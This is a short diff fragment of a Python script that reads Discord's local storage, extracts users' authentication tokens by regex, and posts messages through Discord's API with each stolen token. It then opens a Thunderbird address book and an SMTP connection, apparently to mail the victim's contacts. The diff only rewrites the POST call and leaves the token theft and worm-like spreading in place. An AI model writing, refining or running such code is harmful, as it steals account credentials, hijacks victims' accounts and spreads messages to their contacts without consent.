@@ -7,8 +7,8 @@ folder = os.path.join(os.environ["APPDATA"], "discord", "Local Storage", "leveld
 for name in os.listdir(folder):
     with open(os.path.join(folder, name), errors="ignore") as f:
         for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read()):
-            headers = {"Authorization": token}
-            requests.post("https://discord.com/api/v9/channels/1/messages", headers=headers, json={"content": "look"})  # expect
+            url = "https://discord.com/api/v9/channels/1/messages"
+            requests.post(url, headers={"Authorization": token}, json={"content": "look"})  # expect
 
 with open(os.path.expanduser("~/.thunderbird/a.default/abook.mab")) as f:
     mail = smtplib.SMTP("mail.invalid")
